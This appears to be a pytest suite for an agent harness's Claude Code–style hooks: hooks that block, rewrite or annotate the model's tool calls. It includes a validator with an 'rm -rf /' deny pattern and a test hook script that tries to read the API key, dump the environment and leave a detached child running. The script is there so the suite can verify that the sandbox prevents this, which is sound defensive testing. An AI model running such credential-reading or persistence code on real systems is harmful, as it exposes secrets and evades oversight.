"""Hooks in Claude Code's protocol: loaded from the files, run with its JSON, obeyed by exit code.

The runner is driven directly on real shell commands; the events that meet the machines are
driven through the real CLI, the real SDK and the loopback Messages-API server.
"""

from __future__ import annotations

import json
import os
import re
import time
import uuid
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import attrs
import pytest

from orchestrator.hooks import Hook, HookConfigError, HookRunner, load_hooks
from orchestrator.script import parse_script
from orchestrator.testing import MessagesServer, check_request

#: What the runners below said to the person, per test.
SAID: list[str] = []


def _runner(tmp_path: Path, *hooks: Hook, secrets: tuple[str, ...] = ()) -> HookRunner:
    SAID.clear()
    return HookRunner(
        hooks,
        tmp_path,
        session_id="s1",
        transcript_path="/t.jsonl",
        secrets=secrets,
        notice=SAID.append,
    )


# --- the files --------------------------------------------------------------------------------


def test_hooks_load_in_both_shapes_and_name_their_file(tmp_path: Path) -> None:
    project = tmp_path / "orchestrator.toml"
    project.write_text(
        '[[hooks.PreToolUse]]\nmatcher = "bash"\ncommand = "./guard.sh"\ntimeout = 30\n\n'
        '[[hooks.Stop]]\nhooks = [{ type = "command", command = "make test" }]\n',
        encoding="utf-8",
    )
    pre, stop = load_hooks([(tmp_path / "missing.toml", False), (project, True)])
    assert (pre.event, pre.matcher, pre.command, pre.timeout) == (
        "PreToolUse",
        "bash",
        "./guard.sh",
        30.0,
    )
    assert (stop.event, stop.command, stop.project, stop.origin) == (
        "Stop",
        "make test",
        True,
        str(project),
    )


@pytest.mark.parametrize(
    ("toml", "words"),
    [
        ('[[hooks.Stop]]\ncommand = "x"\nargs = "-v"\n', "args must be"),
        ('[[hooks.Stop]]\ncommand = "x"\noutside = "yes"\n', "outside must be"),
        ('[[hooks.Stop]]\ncommand = ""\n', "needs a command"),
        ('[[hooks.PreToolUse]]\nmatcher = "("\ncommand = "x"\n', "is not a regex"),
        ('[[hooks.Stop]]\ncommand = "x"\ntimeout = -1\n', "timeout must be"),
        ('[hooks]\nStop = "x"\n', "array of tables"),
    ],
)
def test_a_bad_hook_table_is_refused_naming_it(tmp_path: Path, toml: str, words: str) -> None:
    path = tmp_path / "orchestrator.toml"
    path.write_text(toml, encoding="utf-8")
    with pytest.raises(HookConfigError, match=words) as raised:
        load_hooks([(path, True)])
    assert str(path) in str(raised.value)


@pytest.mark.parametrize(
    ("matcher", "tool", "matches"),
    [
        ("Bash", "bash", True),
        ("bash", "bash", True),
        ("Edit|Write", "write_file", True),
        ("Edit|Write", "bash", False),
        ("TodoWrite", "todo", True),
        ("", "mcp__docs__search", True),
        ("mcp__docs__.*", "mcp__docs__search", True),
        ("Read", "read_file", True),
    ],
)
def test_matchers_take_claude_codes_tool_names_and_ours(
    matcher: str, tool: str, matches: bool
) -> None:
    assert Hook("PreToolUse", "x", matcher).matches(tool) is matches


# --- the runner -------------------------------------------------------------------------------


def test_the_hook_reads_claude_codes_json_on_stdin(tmp_path: Path) -> None:
    runner = _runner(tmp_path, Hook("PreToolUse", "cat > payload.json"))
    outcome = runner.run(
        "PreToolUse", {"tool_name": "Bash", "tool_input": {"command": "ls"}}, ours={"x": 1}
    )
    assert not outcome.blocked
    payload = json.loads((tmp_path / "payload.json").read_text(encoding="utf-8"))
    assert payload == {
        "session_id": "s1",
        "transcript_path": "/t.jsonl",
        "cwd": str(tmp_path),
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": "ls"},
        "orchestrator": {"approval": "ask", "x": 1},
    }


def test_exit_2_blocks_with_stderr_and_other_codes_only_say_so(tmp_path: Path) -> None:
    blocking = _runner(tmp_path, Hook("Stop", "echo 'tests fail' >&2; exit 2"))
    outcome = blocking.run("Stop", {})
    assert (outcome.blocked, outcome.reason) == (True, "tests fail")
    failing = _runner(tmp_path, Hook("Stop", "echo oops >&2; exit 1"))
    outcome = failing.run("Stop", {})
    assert not outcome.blocked
    assert SAID == ["orchestrator: Stop hook `echo oops >&2; exit 1` failed (exit 1): oops"]


@pytest.mark.parametrize(
    ("printed", "blocked", "reason"),
    [
        ('{"decision": "block", "reason": "not yet"}', True, "not yet"),
        (
            '{"hookSpecificOutput": {"hookEventName": "PreToolUse", '
            '"permissionDecision": "deny", "permissionDecisionReason": "no force pushes"}}',
            True,
            "no force pushes",
        ),
        ('{"continue": false, "stopReason": "enough"}', True, "enough"),
        ('{"decision": "approve"}', False, ""),
        ("plain words", False, ""),
    ],
)
def test_json_on_stdout_decides_as_claude_code_reads_it(
    tmp_path: Path, printed: str, blocked: bool, reason: str
) -> None:
    (tmp_path / "out.txt").write_text(printed, encoding="utf-8")
    outcome = _runner(tmp_path, Hook("PreToolUse", "cat out.txt")).run("PreToolUse", {}, "bash")
    assert (outcome.blocked, outcome.reason) == (blocked, reason)


def test_garbage_output_is_a_non_blocking_error(tmp_path: Path) -> None:
    runner = _runner(tmp_path, Hook("PostToolUse", "printf '{not json\\x00\\xff'"))
    outcome = runner.run("PostToolUse", {}, "bash")
    assert not outcome.blocked
    assert "not JSON" in SAID[0]


def test_a_hanging_hook_is_killed_with_what_it_started(tmp_path: Path) -> None:
    hook = Hook("Stop", "sleep 300 & echo $! > child.pid; sleep 300", timeout=1)
    runner = _runner(tmp_path, hook)
    outcome = runner.run("Stop", {})
    assert not outcome.blocked
    assert "timed out after 1 s; killed" in SAID[0]
    child = int((tmp_path / "child.pid").read_text(encoding="utf-8"))
    for _ in range(100):  # the kill is sent; the kernel may take a moment to reap it
        if not _alive(child):
            break
        time.sleep(0.1)
    assert not _alive(child)


def _alive(pid: int) -> bool:
    try:
        status = Path(f"/proc/{pid}/status").read_text(encoding="ascii")
    except OSError:
        return False
    return "\nState:\tZ" not in status  # a zombie has ended; only its entry waits for a reaper


def test_hook_output_is_redacted(tmp_path: Path) -> None:
    secret = "sk-ant-api03-very-secret-value"
    runner = _runner(tmp_path, Hook("Stop", f"echo 'key {secret}' >&2; exit 2"), secrets=(secret,))
    outcome = runner.run("Stop", {})
    assert secret not in outcome.reason
    assert "[REDACTED]" in outcome.reason


# --- through the CLI --------------------------------------------------------------------------
#
# The run goes through the real CLI (click's runner, in this process), the real SDK and the
# loopback server, with the default sandbox (bwrap where it works); the hooks are real
# processes in it.


@pytest.fixture
def isolated(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """A clean environment: the user's config folder and state under ``tmp_path``."""
    for name in list(os.environ):
        if name.startswith(("ANTHROPIC_", "ORCHESTRATOR_")):
            monkeypatch.delenv(name)
    monkeypatch.setenv("ORCHESTRATOR_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.setenv("ORCHESTRATOR_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.setenv("NO_COLOR", "1")
    (tmp_path / "config").mkdir()
    work = tmp_path / "work"
    work.mkdir()
    return work


@attrs.frozen
class Ran:
    """One CLI run: its exit code, what it said, what the model was sent, its trace's events."""

    code: int
    stdout: str
    stderr: str
    requests: list[dict[str, Any]]
    events: list[dict[str, Any]]
    trace: Path

    def sent(self, index: int) -> str:
        """The last message of request ``index``, as JSON text (what the model read)."""
        return json.dumps(self.requests[index]["messages"][-1], ensure_ascii=False)

    def results(self) -> list[dict[str, Any]]:
        return [event for event in self.events if event["event"] == "tool.result"]


def _cli(work: Path, turns: Sequence[Mapping[str, Any]], *flags: str, name: str = "t") -> Ran:
    """``orchestrator run`` in this process against the loopback server (no terminal)."""
    from click.testing import CliRunner

    from orchestrator.cli import cli

    trace = work.parent / f"{name}.jsonl"
    script = parse_script({"name": "hooks", "turns": list(turns)}, source="test")
    with MessagesServer(script) as server:
        env = {"ANTHROPIC_API_KEY": KEY, "ANTHROPIC_BASE_URL": server.base_url}
        args = ["run", "Do it", "--workdir", str(work), "--trace", str(trace), *flags]
        done = CliRunner().invoke(cli, args, env=env, standalone_mode=False)
    assert done.exception is None or isinstance(done.exception, SystemExit), done.stderr
    assert "Traceback" not in done.stderr, done.stderr
    assert server.violations == [], done.stderr
    assert all(check_request(body) == [] for body in server.requests)
    lines = trace.read_text(encoding="utf-8").splitlines() if trace.exists() else []
    events = [json.loads(line) for line in lines]
    code = done.return_value if isinstance(done.return_value, int) else 2
    return Ran(code, done.stdout, done.stderr, server.requests, events, trace)


def _replay_check(trace: Path) -> None:
    from click.testing import CliRunner

    from orchestrator.cli import cli

    done = CliRunner().invoke(cli, ["replay", "--check", str(trace)], standalone_mode=False)
    assert done.exception is None and done.return_value in (0, None), done.output


def _seen(work: Path) -> list[dict[str, Any]]:
    lines = (work / ".seen.jsonl").read_text(encoding="utf-8").splitlines()
    return [json.loads(line) for line in lines]


KEY = "sk-ant-api03-hooks-test-key-0123456789"


def _run(work: Path, turns: Sequence[Mapping[str, Any]], hooks_toml: str, *flags: str) -> Ran:
    (work / "orchestrator.toml").write_text(hooks_toml, encoding="utf-8")
    return _cli(work, turns, "--yes", *flags)


NO_FORCE = (
    '[[hooks.PreToolUse]]\nmatcher = "Bash"\n'
    "command = \"grep -q 'push --force' && "
    "{ echo 'no force pushes here' >&2; exit 2; } || exit 0\"\n"
)


def test_a_pre_tool_use_hook_that_exits_2_blocks_the_call_and_the_model_reads_why(
    isolated: Path,
) -> None:
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "bash", "input": {"command": "git push --force; touch ran"}}]},
        {
            "text": "Understood, no force push.",
            "expect": [{"is_error": True, "contains": "no force pushes here"}],
        },
    ]
    ran = _run(isolated, turns, NO_FORCE, "--trust")
    assert ran.code == 0, ran.stderr
    assert not (isolated / "ran").exists()
    _replay_check(ran.trace)


def test_a_stop_hook_keeps_the_model_working_like_the_done_check(isolated: Path) -> None:
    stop = "[[hooks.Stop]]\ncommand = \"test -f ok || { echo 'create ok first' >&2; exit 2; }\"\n"
    turns: list[dict[str, Any]] = [
        {"text": "All done!"},
        {"tool_calls": [{"name": "bash", "input": {"command": "touch ok"}}]},
        {"text": "Now it is done."},
    ]
    ran = _run(isolated, turns, stop, "--trust")
    assert ran.code == 0, ran.stderr
    assert "create ok first" in ran.sent(1)
    checks = [e for e in ran.events if e["event"] == "loop.done_check"]
    assert [c["passed"] for c in checks] == [False]  # the second stop passed: nothing blocked
    assert ran.events[-1]["status"] == "done"
    _replay_check(ran.trace)


def test_a_task_completed_hook_refuses_a_completion_until_it_passes(isolated: Path) -> None:
    hook = (
        "[[hooks.TaskCompleted]]\n"
        'command = "grep -q \'\\"id\\": \\"1\\"\' && test ! -f ok && '
        "{ echo 'item 1 needs ok' >&2; exit 2; } || exit 0\"\n"
    )
    plan = {"items": [{"id": "1", "text": "Make ok", "status": "in_progress"}]}
    done_plan = {"merge": True, "items": [{"id": "1", "status": "completed"}]}
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "todo", "input": plan}]},
        {"tool_calls": [{"name": "todo", "input": done_plan}]},
        {
            "tool_calls": [{"name": "bash", "input": {"command": "touch ok"}}],
            "expect": [{"is_error": True, "contains": "item 1 needs ok"}],
        },
        {"tool_calls": [{"name": "todo", "input": done_plan}]},
        {"text": "Done.", "expect": [{"is_error": False, "contains": "(1/1 completed)"}]},
    ]
    ran = _run(isolated, turns, hook, "--trust")
    assert ran.code == 0, ran.stderr
    checks = [
        (e["command"].split()[0], e["exit_code"]) for e in ran.events if e["event"] == "plan.check"
    ]
    assert checks == [("TaskCompleted", 2), ("TaskCompleted", 0)]
    _replay_check(ran.trace)


def test_an_untrusted_projects_hooks_never_run_and_the_run_says_so(isolated: Path) -> None:
    spy = (
        '[[hooks.PreToolUse]]\ncommand = "touch hook-ran"\n'
        '[[hooks.SessionStart]]\ncommand = "touch hook-ran"\n'
    )
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "bash", "input": {"command": "echo hi"}}]},
        {"text": "Done."},
    ]
    ran = _run(isolated, turns, spy)
    assert ran.code == 0, ran.stderr
    assert not (isolated / "hook-ran").exists()
    lines = [line for line in ran.stderr.splitlines() if "hooks in" in line]
    assert len(lines) == 1 and "not trusted" in lines[0], ran.stderr


def test_a_todo_call_a_hook_blocked_replays_as_never_applied(isolated: Path) -> None:
    no_todo = '[[hooks.PreToolUse]]\nmatcher = "TodoWrite"\ncommand = "echo no plans >&2; exit 2"\n'
    plan = {"items": [{"id": "1", "text": "Step", "status": "in_progress"}]}
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "todo", "input": plan}]},
        {"text": "No plan, then.", "expect": [{"is_error": True, "contains": "no plans"}]},
    ]
    ran = _run(isolated, turns, no_todo, "--trust")
    assert ran.code == 0, ran.stderr
    assert not [e for e in ran.events if e["event"] == "plan.updated"]
    _replay_check(ran.trace)


def test_post_tool_use_speaks_after_a_call_that_succeeded_only(tmp_path: Path) -> None:
    from orchestrator.hooks import HookedTools
    from orchestrator.tools import ReadFileTool, ToolRegistry, Workdir

    (tmp_path / "a.txt").write_text("hello\n", encoding="utf-8")
    hook = Hook("PostToolUse", "cat >> seen.jsonl; echo; echo 'lint: 2 warnings' >&2; exit 2")
    tools = HookedTools(ToolRegistry([ReadFileTool(Workdir(tmp_path))]), _runner(tmp_path, hook))
    read = tools.dispatch("read_file", {"path": "a.txt"})
    assert not read.is_error
    assert read.text.endswith("[PostToolUse hook: lint: 2 warnings]")
    missing = tools.dispatch("read_file", {"path": "nope.txt"})
    assert missing.is_error and "PostToolUse" not in missing.text
    seen = [json.loads(line) for line in (tmp_path / "seen.jsonl").read_text().splitlines() if line]
    assert [event["tool_input"]["file_path"] for event in seen] == [str(tmp_path / "a.txt")]
    assert seen[0]["tool_name"] == "Read"
    assert seen[0]["tool_response"]["file"]["content"].startswith("hello")
    assert seen[0]["orchestrator"]["tool_input"] == {"path": "a.txt"}
    assert "hello" in seen[0]["orchestrator"]["tool_response"]["output"]


@pytest.mark.parametrize("outside", [False, True])
def test_a_setsid_child_of_a_hook_is_gone_when_the_hook_ends(tmp_path: Path, outside: bool) -> None:
    # A setsid child leaves the hook's process group and would hold its output for ever; the
    # verdict is the hook's own, and nothing it started outlives it, in the sandbox or not.
    decision = '{"decision": "block", "reason": "nope"}'
    (tmp_path / "out.txt").write_text(decision, encoding="utf-8")
    marker = _unique_marker("hook-child")
    command = f"setsid sh -c 'exec -a {marker} sleep 300' & cat out.txt"
    hook = Hook("PreToolUse", command, timeout=30, outside=outside)
    outcome = _runner(tmp_path, hook).run("PreToolUse", {}, "bash")
    assert (outcome.blocked, outcome.reason) == (True, "nope")
    assert _processes_named(marker) == []


def _unique_marker(prefix: str) -> str:
    """A command-line marker no other test's processes carry.

    Not ``tmp_path.name``: every xdist worker numbers its own folders, so two workers running
    the parametrized cases side by side both get ``..._0`` and each saw the other's child.
    """
    return f"{prefix}-{uuid.uuid4().hex}"


def _processes_named(marker: str) -> list[int]:
    """Live processes whose command line holds ``marker`` (found from outside any sandbox)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            line = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if marker in line and _alive(int(entry.name)):
            found.append(int(entry.name))
    return found


def test_continue_false_lets_a_stop_end_and_refuses_elsewhere(tmp_path: Path) -> None:
    (tmp_path / "out.txt").write_text(
        '{"continue": false, "stopReason": "enough", "decision": "block"}', encoding="utf-8"
    )
    stop = _runner(tmp_path, Hook("Stop", "cat out.txt")).run("Stop", {})
    assert not stop.blocked  # "continue": false outranks "decision" and means: stop now
    pre = _runner(tmp_path, Hook("PreToolUse", "cat out.txt")).run("PreToolUse", {}, "bash")
    assert (pre.blocked, pre.reason) == (True, "enough")


def test_a_refused_first_message_leaves_no_empty_trace(isolated: Path) -> None:
    refuse = '[[hooks.UserPromptSubmit]]\ncommand = "echo nope >&2; exit 2"\n'
    ran = _run(isolated, [{"text": "never asked"}], refuse, "--trust")
    assert ran.code == 1
    assert "a UserPromptSubmit hook refused the message: nope" in ran.stderr
    assert ran.requests == []
    assert not ran.trace.exists()
    assert "resume" not in ran.stdout + ran.stderr.split("refused the message")[1]


# --- Claude Code's hook scripts, unchanged, through the CLI ------------------------------------


#: A Bash validator written the way Claude Code's hooks guide writes one: it reads the JSON on
#: stdin, leaves every tool but Bash alone, and exits 2 with the reason on stderr. Its first
#: lines keep what it was given (and the transcript's first event), to check from outside.
VALIDATOR = """\
#!/usr/bin/env python3
import json
import os
import re
import sys

RULES = [
    (r"^grep\\b(?!.*\\|)", "Use 'rg' (ripgrep) instead of 'grep'"),
    (r"rm\\s+-rf\\s+/", "Never remove the root"),
]

data = json.load(sys.stdin)
with open(data["transcript_path"], encoding="utf-8") as transcript:
    first = json.loads(transcript.readline())["event"]
with open(os.path.join(os.environ["CLAUDE_PROJECT_DIR"], ".seen.jsonl"), "a") as seen:
    print(json.dumps({"input": data, "transcript": first}), file=seen)

if data.get("tool_name") != "Bash":
    sys.exit(0)
command = data.get("tool_input", {}).get("command", "")
problems = [message for pattern, message in RULES if re.search(pattern, command)]
for message in problems:
    print(f"- {message}", file=sys.stderr)
sys.exit(2 if problems else 0)
"""


def test_claude_codes_bash_validator_works_unchanged_from_the_users_folder(
    isolated: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work = isolated
    # Where a Claude Code user keeps it: ~/.claude/hooks/, outside the work directory.
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    script = tmp_path / "home" / ".claude" / "hooks" / "bash_validator.py"
    script.parent.mkdir(parents=True)
    script.write_text(VALIDATOR, encoding="utf-8")
    (tmp_path / "config" / "config.toml").write_text(
        "[[hooks.PreToolUse]]\n"
        'matcher = "Bash|Read"\n'
        'hooks = [{ type = "command", command = "python3 ~/.claude/hooks/bash_validator.py" }]\n',
        encoding="utf-8",
    )
    (work / "notes.txt").write_text("TODO: one\n", encoding="utf-8")
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "bash", "input": {"command": "grep -r TODO . > grep-ran"}}]},
        {
            "tool_calls": [
                {"name": "read_file", "input": {"path": "notes.txt"}},
                {"name": "bash", "input": {"command": "touch ls-ran"}},
            ],
            "expect": [{"is_error": True, "contains": "Use 'rg' (ripgrep) instead of 'grep'"}],
        },
        {
            "text": "Read it with rg instead.",
            "expect": [
                {"is_error": False, "contains": "TODO: one"},
                {"is_error": False},
            ],
        },
    ]
    ran = _cli(work, turns, "--yes")
    assert ran.code == 0, ran.stderr
    # What ran: the blocked command never did; the others did.
    assert not (work / "grep-ran").exists()
    assert (work / "ls-ran").exists()
    # What the hook received: Claude Code's names, the call's id, the trace it can read.
    seen = _seen(work)
    assert [entry["input"]["tool_name"] for entry in seen] == ["Bash", "Read", "Bash"]
    calls = [e for e in ran.events if e["event"] == "tool.call"]
    first = seen[0]["input"]
    assert first["tool_input"] == {"command": "grep -r TODO . > grep-ran"}
    assert first["tool_use_id"] == calls[0]["id"]
    assert first["permission_mode"] == "bypassPermissions"
    assert first["cwd"] == str(work)
    assert first["transcript_path"] == str(ran.trace)
    assert seen[0]["transcript"] == "run.started"
    assert seen[1]["input"]["tool_input"] == {"file_path": str(work / "notes.txt")}
    assert seen[1]["input"]["orchestrator"]["tool_input"] == {"path": "notes.txt"}


DECIDER = """\
import json, sys
data = json.load(sys.stdin)
command = data["tool_input"]["command"]
decision = "deny" if "rm " in command else "ask" if "touch" in command else "allow"
print(json.dumps({"hookSpecificOutput": {
    "hookEventName": "PreToolUse",
    "permissionDecision": decision,
    "permissionDecisionReason": f"policy says {decision}",
}}))
"""


def test_a_json_permission_decision_allows_denies_and_asks(isolated: Path) -> None:
    work = isolated
    (work / "decide.py").write_text(DECIDER, encoding="utf-8")
    (work / "orchestrator.toml").write_text(
        '[[hooks.PreToolUse]]\nmatcher = "Bash"\ncommand = "python3 decide.py"\n',
        encoding="utf-8",
    )
    turns: list[dict[str, Any]] = [
        {
            "tool_calls": [
                {"name": "bash", "input": {"command": "echo allowed > allowed"}},
                {"name": "bash", "input": {"command": "rm decide.py"}},
                {"name": "bash", "input": {"command": "touch asked"}},
            ]
        },
        {
            "text": "Two of three were stopped.",
            "expect": [
                {"is_error": False},
                {"is_error": True, "contains": "policy says deny"},
                {"is_error": True, "contains": "a PreToolUse hook asks for approval"},
            ],
        },
    ]
    # --approval ask and no terminal: bash would be refused, but the hook's allow lets it run.
    ran = _cli(work, turns, "--trust", "--approval", "ask", "--output-format", "json")
    assert (work / "allowed").read_text(encoding="utf-8") == "allowed\n"
    assert (work / "decide.py").exists()  # denied
    assert not (work / "asked").exists()  # asked, and nobody can answer here
    assert ran.code == 3, ran.stderr
    result = json.loads(ran.stdout)
    assert [action["target"] for action in result["refused_actions"]] == ["touch asked"]
    assert "confirm bash: policy says ask" in ran.stderr


REWRITER = """\
import json, sys
data = json.load(sys.stdin)
tool = data["tool_name"]
new = dict(data["tool_input"])
if tool == "Write":
    new["content"] = "# Licensed to you\\n" + new["content"]
elif tool == "TodoWrite":
    new["todos"] = [dict(t, content=t["content"].upper()) for t in new["todos"]]
print(json.dumps({"hookSpecificOutput": {
    "hookEventName": "PreToolUse", "permissionDecision": "allow", "updatedInput": new}}))
"""


def test_updated_input_runs_and_the_trace_records_both_and_replays(isolated: Path) -> None:
    work = isolated
    (work / "rewrite.py").write_text(REWRITER, encoding="utf-8")
    (work / "orchestrator.toml").write_text(
        '[[hooks.PreToolUse]]\nmatcher = "Write|TodoWrite"\ncommand = "python3 rewrite.py"\n',
        encoding="utf-8",
    )
    plan = {"items": [{"id": "1", "text": "write it", "status": "in_progress"}]}
    done_plan = {"merge": True, "items": [{"id": "1", "status": "completed"}]}
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "todo", "input": plan}]},
        {
            "tool_calls": [{"name": "write_file", "input": {"path": "a.py", "content": "x = 1\n"}}],
            "expect": [{"is_error": False, "contains": "WRITE IT"}],
        },
        {"tool_calls": [{"name": "todo", "input": done_plan}]},
        {"text": "Done.", "expect": [{"is_error": False, "contains": "(1/1 completed)"}]},
    ]
    ran = _cli(work, turns, "--trust", "--yes")
    assert ran.code == 0, ran.stderr
    assert (work / "a.py").read_text(encoding="utf-8") == "# Licensed to you\nx = 1\n"
    calls = {e["id"]: e for e in ran.events if e["event"] == "tool.call"}
    updated = [e for e in ran.events if e["event"] == "hook.updated_input"]
    assert [calls[e["id"]]["input"] for e in updated[:2]] == [
        plan,
        {"path": "a.py", "content": "x = 1\n"},
    ]
    assert updated[0]["input"]["items"][0]["text"] == "WRITE IT"
    assert updated[1]["input"] == {"path": "a.py", "content": "# Licensed to you\nx = 1\n"}
    _replay_check(ran.trace)
    from click.testing import CliRunner

    from orchestrator.cli import cli

    shown = CliRunner().invoke(cli, ["show", str(ran.trace)]).stdout
    assert shown.count("a PreToolUse hook (`python3 rewrite.py`) ran it with this input") == 2


FORMATTER = """\
import json, sys
data = json.load(sys.stdin)
path = data["tool_input"]["file_path"]
with open(path, encoding="utf-8") as source:
    lines = [line.rstrip() + "\\n" for line in source]
with open(path, "w", encoding="utf-8") as target:
    target.writelines(lines)
with open(path + ".response.json", "w") as kept:
    json.dump(data["tool_response"], kept)
print(json.dumps({"hookSpecificOutput": {"hookEventName": "PostToolUse",
    "additionalContext": f"formatted {path}"}}))
"""

PROMPT_CONTEXT = """\
import json, sys
data = json.load(sys.stdin)
print(json.dumps({"systemMessage": "branch main checked",
    "hookSpecificOutput": {"hookEventName": "UserPromptSubmit",
    "additionalContext": "The deployment target is staging; the prompt was: " + data["prompt"]}}))
"""


def test_a_file_path_formatter_and_additional_context_reach_the_model(isolated: Path) -> None:
    work = isolated
    (work / "fmt.py").write_text(FORMATTER, encoding="utf-8")
    (work / "prompt.py").write_text(PROMPT_CONTEXT, encoding="utf-8")
    (work / "orchestrator.toml").write_text(
        '[[hooks.PostToolUse]]\nmatcher = "Write|Edit"\ncommand = "python3 fmt.py"\n'
        '[[hooks.UserPromptSubmit]]\ncommand = "python3 prompt.py"\n',
        encoding="utf-8",
    )
    target = work / "src" / "a.py"
    turns: list[dict[str, Any]] = [
        {
            "tool_calls": [
                {"name": "write_file", "input": {"path": "src/a.py", "content": "x = 1   \n"}}
            ]
        },
        {"text": "Written.", "expect": [{"is_error": False, "contains": f"formatted {target}"}]},
    ]
    ran = _cli(work, turns, "--trust", "--yes")
    assert ran.code == 0, ran.stderr
    assert target.read_text(encoding="utf-8") == "x = 1\n"
    response = json.loads((work / "src" / "a.py.response.json").read_text(encoding="utf-8"))
    assert response == {"filePath": str(target), "success": True}
    first = json.dumps(ran.requests[0]["messages"][0], ensure_ascii=False)
    assert "The deployment target is staging; the prompt was: Do it" in first
    assert "branch main checked" in ran.stderr  # systemMessage: for the person


def test_claude_codes_other_events_are_skipped_in_one_line_and_the_rest_run(
    isolated: Path,
) -> None:
    work = isolated
    (work / "orchestrator.toml").write_text(
        '[[hooks.Notification]]\nhooks = [{ type = "command", command = "touch notified" }]\n'
        '[[hooks.SubagentStop]]\nhooks = [{ type = "command", command = "touch sub" }]\n'
        '[[hooks.PermissionRequest]]\nmatcher = "Bash"\n'
        'hooks = [{ type = "command", command = "touch asked" }]\n'
        '[[hooks.PostToolUseFailure]]\nhooks = [{ type = "command", command = "touch failed" }]\n'
        '[[hooks.PostToolUse]]\nmatcher = "*"\n'
        'hooks = [{ type = "prompt", prompt = "Was it fine?" }, '
        '{ type = "command", command = "touch post-ran" }]\n',
        encoding="utf-8",
    )
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "bash", "input": {"command": "false"}}]},
        {"text": "Done."},
    ]
    ran = _cli(work, turns, "--trust", "--yes")
    assert ran.code == 0, ran.stderr
    assert (work / "post-ran").exists()
    assert not any((work / name).exists() for name in ("notified", "sub", "asked", "failed"))
    lines = [line for line in ran.stderr.splitlines() if "hooks skipped" in line]
    assert len(lines) == 1, ran.stderr
    for event in ("Notification", "SubagentStop", "PermissionRequest", "PostToolUseFailure"):
        assert event in lines[0]
    assert "PostToolUse (type prompt)" in lines[0]


FLOOD = """\
import json, sys
command = json.load(sys.stdin)["tool_input"]["command"]
if "flood" in command:
    sys.stderr.write("HEAD" + "x" * (1 << 20) + "TAIL")
    sys.exit(2)
if "big" in command:
    print(json.dumps({"padding": "y" * (70 * 1024), "hookSpecificOutput": {
        "hookEventName": "PreToolUse", "permissionDecision": "deny",
        "permissionDecisionReason": "a big decision, read whole"}}))
"""


def test_a_flood_is_cut_to_the_tool_cap_and_a_big_json_decision_is_read(isolated: Path) -> None:
    work = isolated
    (work / "flood.py").write_text(FLOOD, encoding="utf-8")
    (work / "orchestrator.toml").write_text(
        '[[hooks.PreToolUse]]\nmatcher = "Bash"\ncommand = "python3 flood.py"\n',
        encoding="utf-8",
    )
    turns: list[dict[str, Any]] = [
        {
            "tool_calls": [
                {"name": "bash", "input": {"command": "touch flood"}},
                {"name": "bash", "input": {"command": "touch big"}},
            ]
        },
        {
            "text": "Both blocked.",
            "expect": [
                {"is_error": True, "contains": "characters cut from the middle"},
                {"is_error": True, "contains": "a big decision, read whole"},
            ],
        },
    ]
    ran = _cli(work, turns, "--trust", "--yes")
    assert ran.code == 0, ran.stderr
    assert not (work / "flood").exists() and not (work / "big").exists()
    flooded = ran.requests[1]["messages"][-1]["content"][0]["content"]
    assert "HEAD" in flooded and "TAIL" in flooded
    assert 50_000 < len(flooded) < 50_500


LEAKER = """\
import json, os, subprocess, sys
json.load(sys.stdin)
with open(os.path.join(os.environ["CLAUDE_PROJECT_DIR"], "leak.txt"), "w") as leak:
    leak.write(os.environ.get("ANTHROPIC_API_KEY", "absent") + "\\n")
    leak.write(str(sorted(os.environ)) + "\\n")
# A child in a session of its own, meant to outlive the hook.
subprocess.Popen(["setsid", "sh", "-c", "exec -a {marker} sleep 300"], start_new_session=True)
"""


def test_a_relative_trace_path_still_lets_every_hook_start_and_block(
    isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--trace t.jsonl`` is relative to where the person typed it, not to the work directory.

    The hook's sandbox once bound the trace by that relative path from the work directory, so
    bwrap could not start the hook, the validator never ran and the call it blocks went ahead.
    """
    from click.testing import CliRunner

    from orchestrator.cli import cli

    work = isolated
    (work / "orchestrator.toml").write_text(NO_FORCE, encoding="utf-8")
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "bash", "input": {"command": "git push --force; touch pushed"}}]},
        {"text": "Blocked.", "expect": [{"is_error": True, "contains": "no force pushes here"}]},
    ]
    monkeypatch.chdir(work.parent)
    script = parse_script({"name": "hooks", "turns": turns}, source="test")
    with MessagesServer(script) as server:
        env = {"ANTHROPIC_API_KEY": KEY, "ANTHROPIC_BASE_URL": server.base_url}
        args = ["run", "Do it", "--workdir", "work", "--trace", "rel.jsonl", "--trust", "--yes"]
        done = CliRunner().invoke(cli, args, env=env, standalone_mode=False)
    assert server.violations == [], done.stderr
    assert done.return_value == 0, done.stderr
    assert "failed" not in done.stderr, done.stderr
    assert not (work / "pushed").exists()


def test_a_hook_gets_no_key_and_nothing_it_starts_outlives_it(
    isolated: Path, tmp_path: Path
) -> None:
    work = isolated
    marker = _unique_marker("leaker-child")
    (work / "leak.py").write_text(LEAKER.replace("{marker}", marker), encoding="utf-8")
    (tmp_path / "config" / "config.toml").write_text(
        f'[[hooks.SessionStart]]\ncommand = "python3 {work / "leak.py"}"\n', encoding="utf-8"
    )
    ran = _cli(work, [{"text": "Hello."}], "--yes")
    assert ran.code == 0, ran.stderr
    key, names = (work / "leak.txt").read_text(encoding="utf-8").splitlines()
    assert key == "absent"
    assert KEY not in names and "ANTHROPIC" not in names
    assert _processes_named(marker) == []


GUARD = """\
import json, sys
data = json.load(sys.stdin)
if "forbidden" in data["tool_input"].get("command", ""):
    print("not that", file=sys.stderr)
    sys.exit(2)
"""


def _trust(work: Path) -> None:
    from click.testing import CliRunner

    from orchestrator.cli import cli

